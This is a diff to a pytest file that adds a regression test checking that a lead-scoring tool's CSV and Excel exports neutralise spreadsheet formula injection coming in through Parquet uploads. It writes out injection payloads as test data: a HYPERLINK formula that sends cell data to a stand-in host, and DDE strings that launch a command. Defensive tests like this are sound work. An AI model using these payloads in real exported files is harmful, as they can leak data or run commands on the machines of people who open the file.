@@ -1,5 +1,6 @@
 """Hostile input on the daily job's new paths: score's --explain / --report flags, audit, run-job specs."""
 
+import io
 import json
 
 import numpy as np
@@ -68,6 +69,38 @@ def test_score_cells_that_a_spreadsheet_would_run_are_neutralised(ws, tmp_path):
     assert main(["score", "--data", str(path), "--out", str(out)]) == 0
     back = pd.read_csv(out)
     assert back["Prospect ID"].str.startswith("'=").sum() == 1 and back["Lead Source"].str.startswith("'@").all()
+
+
+@pytest.mark.parametrize("dtype", ["category", "string[pyarrow]", "string", object])
+def test_score_out_neutralises_a_parquet_upload_of_any_text_dtype_in_csv_and_excel(ws, tmp_path, dtype):
+    """Issue 22: Parquet text columns stored dictionary-encoded (categoricals) or as arrow strings, and
+    formula column headers, once passed ``score --out`` and the Score page's downloads untouched."""
+    import openpyxl
+
+    from engine.scoring import read_rows, score_frame
+
+    formulas = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "=1+1", "+1+cmd|' /C calc'!A0", "  @SUM(A1)"]
+    leads = demo_leads(n=20, seed=9).drop(columns=["Converted"])
+    leads["Lead Source"] = pd.Series([formulas[i % 4] for i in range(20)], dtype=dtype)  # a column the run uses
+    leads["=cmd|' /C calc'!A0"] = pd.Series(["-1+2"] * 20, dtype=dtype)
+    path = tmp_path / "evil.parquet"
+    leads.to_parquet(path)
+    out = tmp_path / "out.csv"
+    assert main(["score", "--data", str(path), "--out", str(out)]) == 0
+    back = pd.read_csv(out, keep_default_na=False)
+    assert sorted(set(back["Lead Source"])) == sorted("'" + f for f in formulas)
+    assert (back["'=cmd|' /C calc'!A0"] == "'-1+2").all()
+    assert not back.map(lambda v: isinstance(v, str) and v.lstrip().startswith(("=", "+", "-", "@"))).any().any()
+    # the Score page's Excel download of the same list
+    run = ws[1]
+    scored = score_frame(run, read_rows(run, path, filename="evil.parquet"), explain=0)
+    sheet = openpyxl.load_workbook(io.BytesIO(scored.export_excel())).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    header = [c.value for c in sheet[1]]
+    column = header.index("Lead Source") + 1
+    assert sorted({sheet.cell(r, column).value for r in range(2, 22)}) == sorted("'" + f for f in formulas)
+    assert "'=cmd|' /C calc'!A0" in header
 
 
 @pytest.mark.parametrize(
